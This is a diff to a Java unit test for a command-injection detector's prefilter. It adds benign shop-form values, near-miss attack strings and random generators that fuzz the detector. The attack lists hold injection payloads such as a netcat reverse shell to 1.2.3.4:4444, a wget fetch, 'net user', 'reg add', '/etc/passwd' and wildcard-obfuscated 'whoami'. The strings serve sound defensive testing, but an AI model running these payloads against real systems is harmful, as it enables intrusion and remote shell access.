@@ -18,7 +18,8 @@ class CmdiPrefilterTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"sort", "zip", "time", "price:asc", "application/json, text/plain, */*", "https://shop.example.com/cart?step=2", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "en-GB,en;q=0.9,de;q=0.8",
-      "Thanks!", "Ring me at +44 20 7946 0958 if out of stock", "Deliver between 9 and 5; ring twice.",
+      "Thanks!", "Ring me at +44 20 7946 0958 if out of stock", "Call me at +44 20 7946 0958 if out of stock",
+      "Call me at nine", "time flies", "(sort by price", "zip the bag, please", "Sort by price, then (name)", "Deliver between 9 and 5; ring twice.",
       "for long distances, if ever",
       // a command word in argument position, before any separator: "at", "time", "sort"
       "Machine washable at 30 degrees; dry flat. Recycled polyester upper (65%), rubber outsole.",
@@ -26,7 +27,11 @@ class CmdiPrefilterTest {
       "Recycled polyester (65%), for long distances",
       // a program name after a separator, outside a command position, without a strong argument
       "Leak-proof lid with carry loop; fits most cup holders. Dishwasher safe (lid: top rack only).",
-      "Pack of two; the top one", "loop; at the top"})
+      "Pack of two; the top one", "loop; at the top",
+      // prose past the first word, and numbers after an operator
+      "Weight: 310 g in size M. Waterproof rating 20,000 mm, breathability 15,000 g/m2/24h (taped) x.y",
+      "colours; sizes S (36-38), M (39-42) and L (43-46).", "a; 537.36 (KHTML, like Gecko) 126.0",
+      "Dishwasher safe (lid: top rack only); x86_64 12ping 3whoami"})
   void mayMatch_ordinaryValues_skipsThem(String v) {
     PrefilterEdges.skips(detector, v);
   }
@@ -37,7 +42,8 @@ class CmdiPrefilterTest {
       // command positions and operators the scan must see as the shell lexer does
       "x;}.uname", "x\n}*kill", "/}*/usr/bin/id", "(whoami)", "a>(id)", "a&id", "a||id", "a\rid",
       "note; then whoami", "if defined x y", "IF ERRORLEVEL 1 x", "if 1 GEQ 2 x", "if 1 LSS 2 x", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x",
-      "lid; a top -b", "x; so ping 10.0.0.1", "note; so net user x", "a; b tail whoami", "a; b tail /etc/x"})
+      "lid; a top -b", "call whoami", "time sleep 5", "sleep 5", "sort -r x", "ping 10.0.0.1 x", "net user x",
+      "reg add x", "cmd /c x", "(ping 1.2.3.4 x", "Call 12", "(sleep 12", "zip\n", "top;", "x; so ping 10.0.0.1", "note; so net user x", "a; b tail whoami", "a; b tail /etc/x"})
   void mayMatch_attacksNearTheFilterEdge_passesThem(String v) {
     PrefilterEdges.passes(detector, v);
   }
@@ -51,25 +57,29 @@ class CmdiPrefilterTest {
       ">>", ">&", "+", "/", "=", ",", ".", "-", "#", "\t", "}", ":", "%", "*", "?"};
   private static final String CHARS = " ;})(>/=+&|\n*?.@!#%-\t\f\u000bid";
 
+  static String shellText(Random r) {
+    StringBuilder sb = new StringBuilder();
+    if (r.nextInt(4) == 0) {
+      sb.append(GLUE[r.nextInt(GLUE.length)]);
+    }
+    for (int j = 0, len = 1 + r.nextInt(6); j < len; j++) {
+      for (int q = r.nextInt(3) == 0 ? 1 + r.nextInt(3) : 0; q > 0; q--) {
+        sb.append(CHARS.charAt(r.nextInt(CHARS.length())));
+      }
+      sb.append(WORDS[r.nextInt(WORDS.length)]);
+      if (j < len - 1 || r.nextInt(3) == 0) {
+        sb.append(GLUE[r.nextInt(GLUE.length)]);
+      }
+    }
+    return sb.toString();
+  }
+
   @Test
   void mayMatch_randomShellText_neverHidesAFinding() {
     Random r = new Random(8);
     int findings = 0;
     for (int k = 0; k < 60_000; k++) {
-      StringBuilder sb = new StringBuilder();
-      if (r.nextInt(4) == 0) {
-        sb.append(GLUE[r.nextInt(GLUE.length)]);
-      }
-      for (int j = 0, len = 1 + r.nextInt(6); j < len; j++) {
-        for (int q = r.nextInt(3) == 0 ? 1 + r.nextInt(3) : 0; q > 0; q--) {
-          sb.append(CHARS.charAt(r.nextInt(CHARS.length())));
-        }
-        sb.append(WORDS[r.nextInt(WORDS.length)]);
-        if (j < len - 1 || r.nextInt(3) == 0) {
-          sb.append(GLUE[r.nextInt(GLUE.length)]);
-        }
-      }
-      Input in = Input.value(Source.QUERY, "q", sb.toString());
+      Input in = Input.value(Source.QUERY, "q", shellText(r));
       if (detector.inspect(in).isPresent()) {
         findings++;
         assertThat(detector.mayMatch(in, CharMask.of(in.text()))).as("%s", in.text()).isTrue();
@@ -90,24 +100,131 @@ class CmdiPrefilterTest {
    * Program names after a separator but outside a command position ({@code ; fits most cup holders
    * (lid: top rack only)}) need a strong argument to fire: the filter's reading of the next token, checked.
    */
+  static String chainText(Random r) {
+    StringBuilder sb = new StringBuilder();
+    for (int j = 0, len = 2 + r.nextInt(7); j < len; j++) {
+      sb.append(CHAIN_WORDS[r.nextInt(CHAIN_WORDS.length)]);
+      if (j < len - 1 || r.nextInt(3) == 0) {
+        sb.append(CHAIN_GLUE[r.nextInt(CHAIN_GLUE.length)]);
+      }
+    }
+    return sb.toString();
+  }
+
   @Test
   void mayMatch_randomProgramAfterOperator_neverHidesAFinding() {
     Random r = new Random(11);
     int findings = 0;
     for (int k = 0; k < 60_000; k++) {
-      StringBuilder sb = new StringBuilder();
-      for (int j = 0, len = 2 + r.nextInt(7); j < len; j++) {
-        sb.append(CHAIN_WORDS[r.nextInt(CHAIN_WORDS.length)]);
-        if (j < len - 1 || r.nextInt(3) == 0) {
-          sb.append(CHAIN_GLUE[r.nextInt(CHAIN_GLUE.length)]);
-        }
-      }
-      Input in = Input.value(Source.QUERY, "q", sb.toString());
+      Input in = Input.value(Source.QUERY, "q", chainText(r));
       if (detector.inspect(in).isPresent()) {
         findings++;
         assertThat(detector.mayMatch(in, CharMask.of(in.text()))).as("%s", in.text()).isTrue();
       }
     }
     assertThat(findings).as("the generator makes attacks").isGreaterThan(5_000);
+  }
+
+  /** First words: programs, English words, wrappers, Windows words and unmistakable ones. */
+  private static final String[] START_WORDS = {"call", "Call", "time", "sort", "zip", "cat", "sleep", "env", "nohup",
+      "top", "ping", "net", "reg", "sc", "cmd", "cmd.exe", "for", "if", "python3", "zip.exe", ".cat", "id", "ID",
+      "whoami", "echo", "start", "watch", "Deliver", "tail", "head", "cc", "dir", "curl"};
+  /** What may follow: prose, numbers, addresses, table words, sub-commands, flags, paths. */
+  private static final String[] START_ARGS = {"me", "at", "9", "12345", "1.2.3.4", "10.0.0", "v1.2", "1a", "a_b",
+      "c,d", "x-y", "user", "add", "query", "create", "whoami", "id", "ls", "uname", "-n", "--all", "/c", "/etc/x",
+      "~/x", "http://x", "c:x", "x=/y", "%a%", "#x", ".sh", "time", "sleep", "exist", "%i", "the", "Me"};
+  private static final String[] START_GLUE = {" ", " ", " ", "  ", "\t", ";", " ; ", "|", "&", "\n", "(", ")",
+      ">", "/", "=", "+", ",", ".", ":", "#", " #", "-", "\f", "}", "?", "*", "!"};
+
+  /**
+   * A first word that is a table word, the next word and a tail. With no shell syntax in it, a
+   * program or English word at the start fires only with a strong argument: the filter's reading
+   * of the next word, checked.
+   */
+  static String startText(Random r) {
+    StringBuilder sb = new StringBuilder();
+    if (r.nextInt(8) == 0) {
+      sb.append(r.nextBoolean() ? " " : "(");
+    }
+    sb.append(START_WORDS[r.nextInt(START_WORDS.length)]);
+    for (int j = 0, len = 1 + r.nextInt(4); j < len; j++) {
+      sb.append(r.nextInt(3) == 0 ? START_GLUE[r.nextInt(START_GLUE.length)] : " ");
+      sb.append(r.nextInt(4) == 0 ? START_WORDS[r.nextInt(START_WORDS.length)] : START_ARGS[r.nextInt(START_ARGS.length)]);
+    }
+    if (r.nextInt(4) == 0) {
+      sb.append(START_GLUE[r.nextInt(START_GLUE.length)]);
+    }
+    return sb.toString();
+  }
+
+  @Test
+  void mayMatch_randomCommandWordAtStart_neverHidesAFinding() {
+    Random r = new Random(21);
+    int findings = 0;
+    int skipped = 0;
+    for (int k = 0; k < 60_000; k++) {
+      Input in = Input.value(Source.QUERY, "q", startText(r));
+      boolean may = detector.mayMatch(in, CharMask.of(in.text()));
+      if (detector.inspect(in).isPresent()) {
+        findings++;
+        assertThat(may).as("%s", in.text()).isTrue();
+      } else if (!may) {
+        skipped++;
+      }
+    }
+    assertThat(findings).as("the generator makes attacks").isGreaterThan(10_000);
+    assertThat(skipped).as("and values the filter skips").isGreaterThan(5_000);
+  }
+
+  /** Prose, numbers and command words with the punctuation prose and shell share. */
+  private static final String[] PROSE_WORDS = {"Size", "dry", "flat", "sole", "36-38", "65%", "537.36", "x86_64",
+      "9", "1a", "whoami", ".uname", "@id", "!ls", "id", "top", "rack", "sort", "ping", "1.2.3.4", "nc", "-e", "sh",
+      "uname2", "python3.11", "2python", "g", "system", "exec", "phpinfo", "lid:", "caf\u00e9", "\u212aill", "for",
+      "if", "%i", "exist", "==", "in", "do", "cat", "/etc/passwd", "/usr/bin/id", "a=b", "cmd", "/c", "/???/??t",
+      "c?t", "wh*ami", "/bin/c?t", "g++"};
+  private static final String[] PROSE_GLUE = {" ", " ", " ", " ", ", ", ". ", ".", ": ", "/", "=", " (", "(", ") ",
+      ")", "}", " }", "@", "!", "+", " + ", "?", "*", "; ", ";", "\n", "|", "&", ">", " >(", "#", "\t", "-", "'",
+      "$", "\\", "[", "{", "<", "\u00a0", "\u0130", "()", "( ) ", "('", "++"};
+
+  /** Prose-like text with shell syntax and command words sprinkled in. */
+  static String proseText(Random r) {
+    StringBuilder sb = new StringBuilder();
+    for (int j = 0, len = 2 + r.nextInt(9); j < len; j++) {
+      sb.append(r.nextInt(3) == 0 ? PROSE_WORDS[r.nextInt(PROSE_WORDS.length)] : PROSE_WORDS[r.nextInt(4)]);
+      if (j < len - 1 || r.nextInt(3) == 0) {
+        sb.append(r.nextInt(3) == 0 ? PROSE_GLUE[r.nextInt(PROSE_GLUE.length)] : " ");
+      }
+    }
+    return sb.toString();
+  }
+
+  /**
+   * Prose before any operator is skipped in a tight loop, words that start with a digit without a
+   * look-up: the filter's reading of prose with shell characters and command words, checked.
+   */
+  @Test
+  void mayMatch_randomProse_neverHidesAFinding() {
+    Random r = new Random(33);
+    int findings = 0;
+    int skipped = 0;
+    for (int k = 0; k < 60_000; k++) {
+      Input in = Input.value(Source.QUERY, "q", proseText(r));
+      boolean may = detector.mayMatch(in, CharMask.of(in.text()));
+      if (detector.inspect(in).isPresent()) {
+        findings++;
+        assertThat(may).as("%s", in.text()).isTrue();
+      } else if (!may) {
+        skipped++;
+      }
+    }
+    assertThat(findings).as("the generator makes attacks").isGreaterThan(2_000);
+    assertThat(skipped).as("and values the filter skips").isGreaterThan(5_000);
+  }
+
+  @Test
+  void tableWords_allStartWithALetter_asTheDigitRuleAssumes() {
+    for (String w : Commands.words()) {
+      assertThat(w.charAt(0)).as(w).isBetween('a', 'z');
+    }
   }
 }
